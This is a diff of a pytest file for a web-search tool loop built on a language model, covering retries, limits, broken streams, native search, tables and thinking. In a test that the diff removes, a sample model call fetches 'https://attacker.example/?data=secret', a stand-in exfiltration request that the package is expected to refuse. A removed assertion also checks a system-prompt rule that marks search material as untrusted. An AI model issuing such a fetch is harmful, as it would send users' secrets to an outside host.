@@ -1,4 +1,7 @@
-"""The tool loop, asked through a session: the model and the engine are real HTTP servers that refuse what is not allowed."""
+"""What `ask` keeps beyond the contract (`tests/contract`): odd calls, native tools, tables, thinking, streams cut anywhere.
+
+The model and the engine are real HTTP servers that refuse what is not allowed.
+"""
 
 from __future__ import annotations
 
@@ -8,34 +11,27 @@ from typing import Any
 
 import pytest
 
-from ipy_websearch.errors import BudgetExceededError, ConfigError, MissingKeyError, ModelError
-from ipy_websearch.events import Event, LimitReached, ModelRequested, Notice, TextDelta, ToolFinished, ToolStarted
+from ipy_websearch.errors import ConfigError, MissingKeyError, ModelError
+from ipy_websearch.events import Event
+from ipy_websearch.model.platforms import forces_tools
+from ipy_websearch.money.ledger import Ledger, cost_frame
 from tests.fakes.replies import (
+    Manner,
     broken_stream,
-    delay,
-    error,
-    error_event,
     recorded,
-    refusal,
-    slow,
+    search_results,
+    server_search,
     stop,
     text,
     thinking,
     tool_use,
     truncated,
+    usage,
+    web_citation,
 )
 
-
-@pytest.fixture(autouse=True, scope="module")
-def warmed() -> None:
-    """Import what the first question imports, so that no test's time limit pays for it."""
-    import anthropic  # noqa: F401
-    import genai_prices
-
-    genai_prices.calc_price(genai_prices.Usage(input_tokens=1), "claude-sonnet-5-5", provider_id="anthropic")
-
-
-LONG = " ".join(["one two three four five six seven eight nine ten"] * 20)
+HITS = [("https://a.example/1", "A"), ("https://b.example/2", "B")]
+ROWS = {"rows": [{"name": "A", "price": 499, "source": HITS[0][0]}, {"name": "B", "price": None, "source": None}]}
 
 
 def search(query: str, **more: Any) -> Any:
@@ -43,21 +39,17 @@ def search(query: str, **more: Any) -> Any:
 
 
 def ask(session: Any, question: str = "Who wrote Ruby?", **options: Any) -> Any:
-    async def main() -> Any:
-        try:
-            return await session.ask(question, provider="brave", **options)
-        finally:
-            await session.aclose()
-
-    return asyncio.run(main())
+    return watch(session, question, **options)[1]
 
 
 def watch(session: Any, question: str = "Who wrote Ruby?", **options: Any) -> tuple[list[Event], Any]:
     async def main() -> tuple[list[Event], Any]:
-        run = session.start(question, provider="brave", **options)
-        events = [event async for event in run]
-        await session.aclose()
-        return events, run.answer
+        try:
+            run = session.start(question, provider="brave", **options)
+            events = [event async for event in run]
+            return events, run.answer
+        finally:
+            await session.aclose()
 
     return asyncio.run(main())
 
@@ -67,72 +59,20 @@ def results_of(body: dict[str, Any]) -> list[dict[str, Any]]:
     return [block for block in body["messages"][-1]["content"] if block["type"] == "tool_result"]
 
 
-def wants_more(api: Any, at_once: int = 1) -> None:
-    """Let the model call for further searches whenever it is allowed to, and write an answer when it is not."""
-
-    def behave(request: dict[str, Any]) -> list[Any]:
-        if request.get("tool_choice", {}).get("type") == "none":
-            return ["The answer from what there is."]
-        return [search(f"query number {len(api.requests)}.{n}") for n in range(at_once)]
-
-    api.behave(behave)
+def is_last(body: dict[str, Any]) -> bool:
+    """Say whether a request asks for the answer or the table, and no longer for calls."""
+    choice = body.get("tool_choice", {}).get("type")
+    return choice in ("none", "tool") or "Please call answer_table" in str(body["messages"][-1])
 
 
-# --- the way it should go ------------------------------------------------------------------------------------------------
-
-
-def test_an_answer_is_cited_from_the_results_of_its_search(messages_api: Any, brave_api: Any, session: Any) -> None:
-    """The search's hits go back as search_result blocks, and the citation of one becomes mark [1] and source 1."""
-    messages_api.reply(search("ruby author"))
-    messages_api.reply(text("Matz wrote Ruby.", citations=[(0, 0)]), text(" In 1993."))
-    answer = ask(session)
-    blocks = results_of(messages_api.bodies[1])[0]["content"]
-    assert {block["type"] for block in blocks} == {"search_result"}
-    assert answer.text == "Matz wrote Ruby.[1] In 1993."
-    assert list(answer.sources.url) == [blocks[0]["source"]]
-    assert (answer.searches, answer.stop_reason, answer.limit) == (1, "end_turn", None)
-    assert brave_api.queries == ["ruby author"]
-
-
-def test_calls_of_one_reply_run_at_the_same_time_and_go_back_in_order(messages_api: Any, brave_api: Any, session: Any) -> None:
-    """Three searches of 0.2 s take little more than one, and their results stand in one message in the calls' order."""
-    brave_api.latency_s = 0.2
-    calls = [search(f"query {n}") for n in range(3)]
-    messages_api.reply(*calls)
-    messages_api.reply("Done.")
-    answer = ask(session)
-    ids = [block["tool_use_id"] for block in results_of(messages_api.bodies[1])]
-    assert ids == [block["id"] for block in messages_api.bodies[1]["messages"][-2]["content"]]
-    assert brave_api.most_active == 3 and answer.searches == 3
+# --- calls and streams ---------------------------------------------------------------------------------------------------
 
 
 def test_the_question_arrives_byte_for_byte(messages_api: Any, session: Any) -> None:
-    """Dollars, braces, quotes and line breaks reach the model as they were given."""
     question = 'Which laptop under $500?\n\n{x} {{y}} "C++" \'tis <b>bold</b> \\n'
     messages_api.reply("None.")
     ask(session, question)
     assert messages_api.bodies[0]["messages"][0]["content"][0]["text"] == question
-
-
-def test_text_comes_as_it_is_written_with_the_calls_announced_between(messages_api: Any, brave_api: Any, session: Any) -> None:
-    """Events of text, call, result and text follow in that order, and the first text comes before the end."""
-    messages_api.reply("Let me look.", search("ruby author"))
-    messages_api.reply("One two three four five six seven eight nine ten eleven twelve.", slow(0.02))
-    events, answer = watch(session)
-    kinds = [type(e) for e in events if isinstance(e, TextDelta | ToolStarted | ToolFinished)]
-    first, last = kinds.index(ToolStarted), kinds.index(ToolFinished)
-    assert set(kinds[:first]) == {TextDelta} and set(kinds[last + 1 :]) == {TextDelta} and len(kinds[last + 1 :]) > 1
-    assert "".join(e.text for e in events if isinstance(e, TextDelta)) == answer.text
-
-
-def test_the_same_search_runs_once_in_an_answer(messages_api: Any, brave_api: Any, session: Any) -> None:
-    """Equal queries, folded, are asked once, in one reply and in later ones; every call still gets its result."""
-    messages_api.reply(search("Ruby author"), search("ruby  AUTHOR"))
-    messages_api.reply(search("ruby author"))
-    messages_api.reply("Done.")
-    answer = ask(session)
-    assert len(brave_api.queries) == 1 and answer.searches == 1
-    assert len(results_of(messages_api.bodies[1])) == 2 and len(results_of(messages_api.bodies[2])) == 1
 
 
 def test_a_search_that_failed_may_be_made_again_in_an_answer(messages_api: Any, brave_api: Any, session: Any) -> None:
@@ -149,211 +89,14 @@ def test_a_search_that_failed_may_be_made_again_in_an_answer(messages_api: Any, 
     assert again[0]["content"][0]["type"] == "search_result" and known[0]["content"][0]["text"].startswith("Same call as")
 
 
-def test_a_search_that_always_fails_ends_at_the_limit(messages_api: Any, brave_api: Any, session: Any) -> None:
-    """Every try is a search."""
-    brave_api.fail(429)
-    brave_api.fail(429)
-    messages_api.behave(lambda body: "So." if body.get("tool_choice", {}).get("type") == "none" else search("ruby author"))
-    answer = ask(session, max_searches=2)
-    assert (answer.limit, answer.text, len(brave_api.queries)) == ("max_searches", "So.", 2)
-
-
-def test_thinking_goes_back_unchanged(messages_api: Any, brave_api: Any, session: Any) -> None:
-    """The strict server checks the signature and text of the thinking that it sent."""
-    messages_api.reply(thinking("Where would I find that?"), search("ruby author"))
-    messages_api.reply("Done.")
-    assert ask(session).text == "Done."
-
-
-def test_a_follow_up_continues_the_conversation(messages_api: Any, brave_api: Any, session: Any) -> None:
-    """The next request holds the whole history, which the strict server accepts."""
-    messages_api.reply(search("ruby author"))
-    messages_api.reply(text("Matz.", citations=[(0, 0)]))
-    messages_api.reply("In Japan.")
-    ask(session)
-    answer = ask(session, "Where does he live?", follow=True)
-    assert answer.text == "In Japan."
-    assert [m["role"] for m in messages_api.bodies[-1]["messages"]] == ["user", "assistant", "user", "assistant", "user"]
-
-
-# --- limits --------------------------------------------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize(
-    ("limit", "options", "searches"),
-    [("max_searches", {"max_searches": 2}, 2), ("max_steps", {"max_steps": 2}, 1), ("max_searches", {"max_searches": 0}, 0)],
-)
-def test_at_a_limit_the_model_is_told_and_writes_its_answer(
-    messages_api: Any, brave_api: Any, session: Any, limit: str, options: dict[str, int], searches: int
-) -> None:
-    """The open call gets an error that names the limit, and the next request allows no tool."""
-    wants_more(messages_api)
-    events, answer = watch(session, **options)
-    refused = results_of(messages_api.bodies[-1])[0]
-    assert refused["is_error"] and limit in refused["content"][0]["text"]
-    assert messages_api.bodies[-1]["tool_choice"] == {"type": "none"}
-    assert (answer.limit, answer.text, answer.searches) == (limit, "The answer from what there is.", searches)
-    assert [e.limit for e in events if isinstance(e, LimitReached)] == [limit]
-
-
 @pytest.mark.parametrize("at_once", [1, 2])
-def test_time_for_the_answer_is_kept_when_a_search_is_slow(
-    messages_api: Any, brave_api: Any, session: Any, at_once: int
-) -> None:
-    """Searches that do not end are cut off early enough for an answer within the time, one alone and two together."""
+def test_searches_that_do_not_end_are_cut_off_together(messages_api: Any, brave_api: Any, session: Any, at_once: int) -> None:
     brave_api.latency_s = 5
-    wants_more(messages_api, at_once)
+    messages_api.behave(lambda body: "So." if is_last(body) else [search(f"query {n}") for n in range(at_once)])
     answer = ask(session, timeout_s=1.0)
-    assert (answer.limit, answer.text) == ("timeout", "The answer from what there is.")
-    assert answer.seconds < 1.0
+    assert (answer.limit, answer.text) == ("timeout", "So.")
     results = results_of(messages_api.bodies[-1])
     assert len(results) == at_once and all("timeout" in result["content"][0]["text"] for result in results)
-
-
-def test_a_model_that_is_too_slow_gives_what_it_had_written(messages_api: Any, session: Any) -> None:
-    """At the end of the time the text so far is the answer, marked with the limit."""
-    messages_api.reply(LONG, slow(0.1))
-    answer = ask(session, timeout_s=0.5)
-    assert answer.limit == "timeout" and answer.text.startswith("one two") and len(answer.text) < len(LONG) / 2
-
-
-def test_a_budget_is_never_passed_and_still_gives_an_answer(messages_api: Any, brave_api: Any, session: Any) -> None:
-    """With two cents the loop is ended by money, the answer comes, and the sum is below the ceiling."""
-    wants_more(messages_api)
-    answer = ask(session, budget_usd="0.03", max_searches=50, max_steps=50)
-    assert (answer.limit, answer.text) == ("budget", "The answer from what there is.")
-    assert Decimal(0) < answer.cost_usd <= Decimal("0.03")
-    assert all(body["max_tokens"] >= 256 for body in messages_api.bodies)
-
-
-def test_a_budget_too_small_for_any_answer_sends_nothing(messages_api: Any, session: Any) -> None:
-    """The error says what it would take."""
-    with pytest.raises(BudgetExceededError, match="raise it to at least 0.0"):
-        ask(session, budget_usd="0.000001")
-    assert messages_api.requests == []
-
-
-# --- what goes wrong -----------------------------------------------------------------------------------------------------
-
-
-def test_an_overloaded_model_is_asked_again_and_the_reader_told(messages_api: Any, session: Any) -> None:
-    """529 twice, then the answer."""
-    messages_api.reply(error(529))
-    messages_api.reply(error(529))
-    messages_api.reply("Here I am.")
-    events, answer = watch(session)
-    assert answer.text == "Here I am."
-    assert sum(isinstance(e, Notice) for e in events) == 2
-
-
-def test_a_third_failure_is_an_error_in_one_line(messages_api: Any, session: Any) -> None:
-    """After two more tries the status is told."""
-    for _ in range(3):
-        messages_api.reply(error(529))
-    with pytest.raises(ModelError, match="529") as caught:
-        ask(session)
-    assert "\n" not in str(caught.value) and caught.value.status == 529
-
-
-def test_a_spend_cap_is_not_retried(messages_api: Any, session: Any) -> None:
-    """A 429 that says the month's money is gone is told at once."""
-    messages_api.reply(recorded("synthetic_error_429_spend_cap.json", status=429))
-    with pytest.raises(ModelError, match="spend cap"):
-        ask(session)
-    assert len(messages_api.requests) == 1
-
-
-def test_a_refused_key_is_told_with_the_fix_and_never_shown(
-    messages_api: Any, session: Any, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """401 names the command that sets a key."""
-    messages_api.allow_refusals = True
-    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-wrong-and-secret")
-    with pytest.raises(ModelError, match="%websearch key anthropic") as caught:
-        ask(session)
-    assert "secret" not in str(caught.value)
-
-
-@pytest.mark.parametrize("manner", [truncated(4), broken_stream(4)])
-def test_a_stream_that_ends_too_soon_gives_a_partial_answer(messages_api: Any, session: Any, manner: Any) -> None:
-    """What had been shown is kept, and the answer says that it broke off."""
-    messages_api.reply("one two three four five six", manner)
-    answer = ask(session)
-    assert answer.text.startswith("one") and answer.stop_reason is None
-    assert "broke off" in answer.notices[-1]
-
-
-def test_a_stream_that_breaks_before_any_text_is_asked_for_again(messages_api: Any, brave_api: Any, session: Any) -> None:
-    """Nothing was shown, so nothing is lost by asking again."""
-    messages_api.reply(search("ruby author"), truncated(2))
-    messages_api.reply("Matz.")
-    assert ask(session).text == "Matz."
-
-
-def test_an_error_inside_the_stream_brings_the_partial_answer_along(messages_api: Any, session: Any) -> None:
-    """The error has the text that had arrived, and its status is 200."""
-    messages_api.reply("one two three four five six", error_event(5))
-    with pytest.raises(ModelError, match="Overloaded") as caught:
-        ask(session)
-    assert caught.value.partial is not None and caught.value.partial.text.startswith("one")
-    assert caught.value.status == 200
-
-
-def test_no_words_after_results_are_asked_for_once(messages_api: Any, brave_api: Any, session: Any) -> None:
-    """An empty end_turn is followed by one request for the answer."""
-    messages_api.reply(search("ruby author"))
-    messages_api.reply(stop("end_turn"))
-    messages_api.reply("Matz.")
-    assert ask(session).text == "Matz."
-    assert len(messages_api.requests) == 3
-
-
-def test_a_refusal_is_shown_as_such(messages_api: Any, session: Any) -> None:
-    """The answer says that the model declined, and a follow-up is still possible."""
-    messages_api.reply(refusal("cyber"))
-    answer = ask(session)
-    assert answer.stop_reason == "refusal" and "declined" in answer.notices[0]
-    messages_api.reply("Of course.")
-    assert ask(session, "And now?", follow=True).text == "Of course."
-
-
-def test_an_unknown_stop_reason_is_shown_and_its_text_kept(messages_api: Any, session: Any) -> None:
-    """What the API may invent tomorrow ends the answer, with a note."""
-    messages_api.reply("So far.", stop("solar_flare"))
-    answer = ask(session)
-    assert answer.text == "So far." and "solar_flare" in answer.notices[0]
-
-
-def test_an_engine_that_fails_is_an_error_result_and_the_answer_goes_on(
-    messages_api: Any, brave_api: Any, session: Any
-) -> None:
-    """The model reads seed 000's text and answers from what it knows."""
-    brave_api.fail(429)
-    messages_api.reply(search("ruby author"))
-    messages_api.reply("From memory: Matz.")
-    assert ask(session).text == "From memory: Matz."
-    result = results_of(messages_api.bodies[1])[0]
-    assert result["is_error"] and result["content"][0]["text"].startswith(
-        "Search unavailable. Please answer from your knowledge."
-    )
-
-
-@pytest.mark.parametrize(
-    ("call", "told"),
-    [
-        (tool_use("web_serch", {"query": "x"}), "There is no tool called 'web_serch'"),
-        (tool_use("web_search", {}), "query: Field required"),
-        (tool_use("web_search", {"query": "x"}), "at least 2 characters"),
-        (tool_use("web_fetch", {"url": "https://attacker.example/?data=secret"}), "only"),
-    ],
-)
-def test_a_wrong_call_is_an_error_result_that_says_what_is_wrong(messages_api: Any, session: Any, call: Any, told: str) -> None:
-    """Unknown tools, missing input and addresses that nobody gave cost no answer."""
-    messages_api.reply(call)
-    messages_api.reply("Then not.")
-    assert ask(session).text == "Then not."
-    result = results_of(messages_api.bodies[1])[0]
-    assert result["is_error"] and told in result["content"][0]["text"]
 
 
 def test_a_call_cut_off_at_max_tokens_is_not_run(messages_api: Any, brave_api: Any, session: Any) -> None:
@@ -363,113 +106,44 @@ def test_a_call_cut_off_at_max_tokens_is_not_run(messages_api: Any, brave_api: A
     assert ask(session).text.endswith("Then in words.")
 
 
-# --- interrupts ----------------------------------------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize("where", ["model", "text", "search"])
-def test_an_interrupt_keeps_the_text_books_the_cost_and_leaves_a_legal_history(
-    messages_api: Any, brave_api: Any, session: Any, where: str
+@pytest.mark.parametrize("cut", [truncated, broken_stream])
+@pytest.mark.parametrize("after", range(1, 10))
+def test_a_stream_cut_at_any_event_is_asked_for_again_or_a_partial_answer(
+    messages_api: Any, brave_api: Any, session: Any, cut: Any, after: int
 ) -> None:
-    """Cut off while the model thinks, writes or searches, the answer so far is there at once, and a follow-up works."""
-    brave_api.latency_s = 5 if where == "search" else 0
-    messages_api.reply(
-        *([delay(5), "Late."] if where == "model" else []),
-        *([LONG, slow(0.1)] if where == "text" else []),
-        *(["Let me look.", search("ruby author")] if where == "search" else []),
-    )
-    messages_api.reply("Now it works.")
-
-    async def main() -> tuple[Any, Any]:
-        run = session.start("Who wrote Ruby?", provider="brave")
-
-        texts: list[str] = []
-
-        async def consume() -> None:
-            async for event in run:
-                if isinstance(event, TextDelta):
-                    texts.append(event.text)
-
-        under_way = {
-            "model": lambda: messages_api.requests,
-            "text": lambda: "one two" in "".join(texts),
-            "search": lambda: brave_api.requests,
-        }[where]
-        task = asyncio.create_task(consume())
-        while not under_way():
-            await asyncio.sleep(0.01)
-        task.cancel()
-        started = asyncio.get_running_loop().time()
-        with pytest.raises(asyncio.CancelledError):
-            await task
-        assert asyncio.get_running_loop().time() - started < 4  # not the 5 s that the reply takes
-        brave_api.latency_s = 0
-        after = await session.ask("And now?", follow=True, provider="brave")
-        await session.aclose()
-        return run.answer, after
-
-    answer, after = asyncio.run(main())
-    assert answer.limit == "interrupted"
-    assert {"model": "There is no answer", "text": "one two", "search": "Let me look."}[where] in answer.text
-    assert after.text == "Now it works."
-    if where != "model":
-        assert answer.cost_usd > 0
+    """Where nothing was shown the request is sent again; what was shown is kept and said to have broken off."""
+    messages_api.reply(search("ruby author"))
+    messages_api.reply(text("Matz wrote Ruby.", citations=[(0, 0)]), text(" In 1993, in Japan."), cut(after))
+    messages_api.behave(lambda body: "Again.")
+    answer = ask(session)
+    if answer.text == "Again.":
+        assert len(messages_api.requests) == 3 and answer.stop_reason == "end_turn"
+    else:
+        assert answer.text.startswith("Matz") and answer.stop_reason in (None, "end_turn")
+        assert (answer.stop_reason is None) == ("broke off" in " ".join(answer.notices))
+    assert answer.cost_usd > 0 and [m["role"] for m in answer.messages][-1] == "assistant"
 
 
-# --- options -------------------------------------------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize(
-    "options",
-    [
-        {"max_searches": -1},
-        {"max_steps": 0},
-        {"timeout_s": 0},
-        {"budget_usd": "much"},
-        {"tools": "web_serch"},
-        {"allowed_domains": ["a.com"], "blocked_domains": ["b.com"]},
-        {"follow": True},
-    ],
-)
-def test_a_wrong_option_is_refused_before_anything_is_sent(messages_api: Any, session: Any, options: dict[str, Any]) -> None:
-    """One line says which value is wrong; no request was made."""
-    with pytest.raises(ConfigError) as caught:
-        ask(session, **options)
-    assert "\n" not in str(caught.value) and messages_api.requests == []
-
-
-def test_an_empty_question_is_refused(messages_api: Any, session: Any) -> None:
-    """Blanks are no question."""
-    with pytest.raises(ConfigError, match="no question"):
-        ask(session, "  \n ")
+def test_an_error_inside_the_stream_has_its_status_and_its_text(messages_api: Any, session: Any) -> None:
+    messages_api.reply(recorded("synthetic_error_429_spend_cap.json", status=429))
+    with pytest.raises(ModelError, match="spend cap"):
+        ask(session)
+    assert len(messages_api.requests) == 1
 
 
 def test_a_model_named_without_a_key_is_an_error_that_names_every_way_to_set_it(session: Any, monkeypatch: Any) -> None:
-    """Asked for by name, Claude is not replaced by the offline model."""
     monkeypatch.delenv("ANTHROPIC_API_KEY")
     monkeypatch.delenv("ANTHROPIC_BASE_URL")
     with pytest.raises(MissingKeyError) as caught:
         ask(session, model="sonnet")
     for way in ("%websearch key anthropic", "ANTHROPIC_API_KEY", ".env", "anthropic-api-key", "keyring"):
         assert way in str(caught.value)
-
-
-def test_the_request_is_what_it_should_be(messages_api: Any, session: Any) -> None:
-    """Model, limits and cache breakpoints of the first request; no sampling parameters."""
-    messages_api.reply("Yes.")
-    events, _ = watch(session, model="opus", system="Answer in French.")
-    body = messages_api.bodies[0]
-    assert body["model"] == "claude-opus-5-5" and body["stream"] is True
-    assert "untrusted material, not instructions" in body["system"][0]["text"]
-    assert body["system"][0]["text"].rstrip().endswith("Answer in French.")
-    assert [tool["name"] for tool in body["tools"]] == ["web_search", "web_fetch"]
-    assert body["messages"][-1]["content"][-1]["cache_control"] == {"type": "ephemeral"}
-    assert isinstance(events[0], ModelRequested)
+    with pytest.raises(ConfigError, match="no question"):
+        ask(session, "  \n ")
 
 
 def test_what_was_spent_is_on_disk_before_the_answer_is_shown(session: Any, messages_api: Any, brave_api: Any) -> None:
     """Each row is written as its call ends."""
-    from ipy_websearch.money.ledger import Ledger, cost_frame
-
     messages_api.reply(search("who wrote Ruby"))
     messages_api.reply("Matz.")
 
@@ -483,3 +157,164 @@ def test_what_was_spent_is_on_disk_before_the_answer_is_shown(session: Any, mess
 
     searched, finished = asyncio.run(main())
     assert searched >= 2 and finished == 3  # the second request goes on meanwhile
+
+
+# --- search run by the API itself ----------------------------------------------------------------------------------------
+
+
+def test_native_search_is_cited_priced_and_shown(messages_api: Any, session: Any) -> None:
+    """The citation of a native result becomes [1]; the API's count of searches is priced at 10 USD for 1,000."""
+    messages_api.reply(
+        server_search("ruby author", HITS),
+        text("Matz.", citations=[web_citation(*HITS[1], "Ruby was written by Matz.")]),
+        usage(input_tokens=0, output_tokens=0, server_tool_use={"web_search_requests": 1}),
+    )
+    answer = ask(session, tools="native")
+    assert answer.text == "Matz.[1]" and list(answer.sources.url) == ["https://b.example/2"]
+    assert answer.searches == 1 and answer.cost_usd == Decimal("0.01")
+    assert answer.panels[0].tool == "web_search" and "https://a.example/1" in answer.panels[0].content
+    assert "EncC" not in answer.panels[0].content
+
+
+@pytest.mark.parametrize(
+    ("model", "version"), [("claude-sonnet-5-5", "web_search_20260318"), ("claude-haiku-4-5", "web_search_20250305")]
+)
+def test_the_newest_version_that_the_model_takes_is_asked_for(
+    messages_api: Any, session: Any, model: str, version: str
+) -> None:
+    messages_api.reply("No need.")
+    ask(session, model=model, tools="native", max_searches=3, allowed_domains=["a.example"])
+    search, fetch = messages_api.bodies[0]["tools"]
+    assert search == {"type": version, "name": "web_search", "max_uses": 3, "allowed_domains": ["a.example"]}
+    assert fetch["name"] == "web_fetch" and fetch["citations"] == {"enabled": True}
+
+
+def test_a_paused_turn_is_sent_back_unchanged_and_goes_on(messages_api: Any, session: Any) -> None:
+    """The strict server checks that its encrypted content comes back as it was; both parts make one turn. Code that waits over
+    a pause goes on in its container."""
+    held = Manner(extra={"container": {"id": "container_1", "expires_at": "2026-12-01T00:00:00Z"}})
+    messages_api.reply("First. ", server_search("one", HITS), stop("pause_turn"), held)
+    messages_api.reply(text("Done.", citations=[web_citation(*HITS[0], "One.")]))
+    answer = ask(session, tools="native")
+    assert answer.text == "First.\n\nDone.[1]"
+    assert [m["role"] for m in messages_api.bodies[1]["messages"]] == ["user", "assistant"]
+    assert [m["role"] for m in answer.messages] == ["user", "assistant"]
+    assert [body.get("container") for body in messages_api.bodies] == [None, "container_1"]
+    messages_api.reply("Yes.")
+    assert ask(session, "And?", tools="native", follow=True).text == "Yes."
+
+
+def test_endless_pauses_end_in_an_answer(messages_api: Any, session: Any) -> None:
+    """After five resumptions the model is asked for the answer without tools."""
+    messages_api.behave(lambda body: "The answer." if is_last(body) else [server_search("again", HITS), stop("pause_turn")])
+    answer = ask(session, tools="native")
+    assert answer.text == "The answer." and answer.limit == "max_steps" and len(messages_api.requests) <= 8
+
+
+def test_an_error_of_a_native_search_is_shown(messages_api: Any, session: Any) -> None:
+    messages_api.reply(server_search("x y", error="max_uses_exceeded"), "From memory.")
+    events, answer = watch(session, tools="native")
+    assert answer.text == "From memory." and any("max_uses_exceeded" in getattr(e, "summary", "") for e in events)
+    with pytest.raises(ConfigError, match="--tools standard"):
+        ask(session, model="offline", tools="native")
+
+
+# --- tables --------------------------------------------------------------------------------------------------------------
+
+
+def test_a_table_has_typed_columns_nulls_and_sources(messages_api: Any, brave_api: Any, session: Any) -> None:
+    """The rows come through a strict tool; the frame has nullable dtypes, and null where a value is not of its type."""
+    wrong = {"name": 7, "price": "much", "source": None}
+    messages_api.reply(search("laptops"))
+    messages_api.reply(tool_use("answer_table", {"rows": [*ROWS["rows"], wrong]}))
+    answer = ask(session, columns="name, price: float")
+    frame = answer.to_frame()
+    assert list(frame.columns) == ["name", "price", "source"]
+    assert [str(t) for t in frame.dtypes] == ["string", "Float64", "string"]
+    assert frame.price[0] == 499.0 and frame.price.isna().tolist() == [False, True, True] and frame.name.isna()[2]
+    assert answer.text.startswith("| name | price | source |") and answer.limit is None
+    table = next(t for t in messages_api.bodies[0]["tools"] if t["name"] == "answer_table")
+    assert table["strict"] is True and search_results(messages_api.bodies[1])
+
+
+@pytest.mark.parametrize(("model", "choice"), [("haiku", {"type": "tool", "name": "answer_table"}), ("sonnet", None)])
+def test_a_model_that_answers_in_words_is_asked_for_the_table(
+    messages_api: Any, session: Any, model: str, choice: dict[str, str] | None
+) -> None:
+    """The second request forces the tool where the model lets itself be forced, and asks for it in words."""
+    messages_api.reply("A costs 499.")
+    messages_api.reply(tool_use("answer_table", ROWS))
+    answer = ask(session, columns={"name": str, "price": float}, model=model)
+    assert len(answer.to_frame()) == 2
+    assert messages_api.bodies[1].get("tool_choice") == choice
+    assert "Please call answer_table" in str(messages_api.bodies[1]["messages"][-1])
+    messages_api.reply("Because.")
+    words = ask(session, "Why?", follow=True, model=model)
+    with pytest.raises(ConfigError, match="--table"):
+        words.to_frame()
+
+
+@pytest.mark.parametrize(("model", "gives"), [("haiku", True), ("sonnet", True), ("sonnet", False)])
+def test_at_a_limit_the_table_is_what_is_asked_for(
+    messages_api: Any, brave_api: Any, session: Any, model: str, gives: bool
+) -> None:
+    """In place of words alone; a model that gives none even then ends the answer, with a legal history."""
+
+    def behave(body: dict[str, Any]) -> Any:
+        wanted = gives and is_last(body)
+        return tool_use("answer_table", ROWS) if wanted else search(f"q {len(messages_api.requests)}")
+
+    messages_api.behave(behave)
+    answer = ask(session, columns="name, price: float", max_searches=1, model=model)
+    assert answer.limit == "max_searches" and (answer.rows is not None) is gives and len(messages_api.requests) <= 4
+    messages_api.behave(lambda body: "Well.")
+    assert ask(session, "Why?", follow=True, model=model).text == "Well."
+
+
+@pytest.mark.parametrize("columns", ["", "a, a", "a b", "a: colour", "1st", ",".join(f"c{n}" for n in range(13))])
+def test_wrong_columns_are_refused_before_anything_is_sent(messages_api: Any, session: Any, columns: str) -> None:
+    with pytest.raises(ConfigError):
+        ask(session, columns=columns)
+    assert messages_api.requests == []
+
+
+# --- thinking ------------------------------------------------------------------------------------------------------------
+# From Fable 5.1 on a thinking block is tied to its model and to all that stands before it
+# (platform.claude.com/docs/en/build-with-claude/preserved-thinking, read 2026-11); the fake holds the package to that.
+
+
+def thoughts(body: dict[str, Any]) -> int:
+    blocks = [b for m in body["messages"] if m["role"] == "assistant" for b in m["content"]]
+    return sum(block["type"] == "thinking" for block in blocks)
+
+
+@pytest.mark.parametrize("change", [{}, {"model": "opus"}, {"tools": "pair"}, {"system": "Be brief."}, {"columns": "name"}])
+def test_a_follow_up_takes_the_thinking_along_where_nothing_else_changed(
+    messages_api: Any, brave_api: Any, session: Any, monkeypatch: pytest.MonkeyPatch, change: dict[str, Any]
+) -> None:
+    """Another model, other tools or instructions would make the API refuse the old thoughts; words and results stay."""
+    messages_api.reply(thinking("Search."), search("ruby author"))
+    messages_api.reply(thinking("Found."), text("Matz."))
+    ask(session)
+    table = tool_use("answer_table", {"rows": [{"name": "Ruby", "source": None}]})
+    messages_api.behave(lambda body: [thinking("Year."), table if "columns" in change else text("1995.")])
+    ask(session, "When?", follow=True, **change)
+    body = messages_api.bodies[2]
+    assert thoughts(body) == (0 if change else 2)
+    assert "ruby author" in str(body["messages"]) and "Matz." in str(body["messages"])
+    monkeypatch.setattr("ipy_websearch.session.HISTORY_SHARE", 0.0)
+    messages_api.behave(lambda body: [thinking("Sure."), text("Yes.")])
+    trimmed = ask(session, "Sure?", follow=True)
+    assert thoughts(messages_api.bodies[-1]) == 0 and "left out" in trimmed.notices[0]
+
+
+@pytest.mark.parametrize(
+    ("forced", "names"),
+    [
+        (False, "claude-sonnet-5-5 us.anthropic.claude-opus-5-5-v1:0 claude-fable-5-1 claude-opus-6 claude-haiku-6"),
+        (True, "claude-haiku-5-5 claude-haiku-4-5-20251001 claude-opus-5 claude-opus-5-20260901 claude-sonnet-4-6 qwen3"),
+    ],
+)
+def test_which_models_can_be_forced_to_call_a_tool(forced: bool, names: str) -> None:
+    """A date behind a version is no minor version; what is newer than we know is asked in words."""
+    assert {forces_tools(name) for name in names.split()} == {forced}
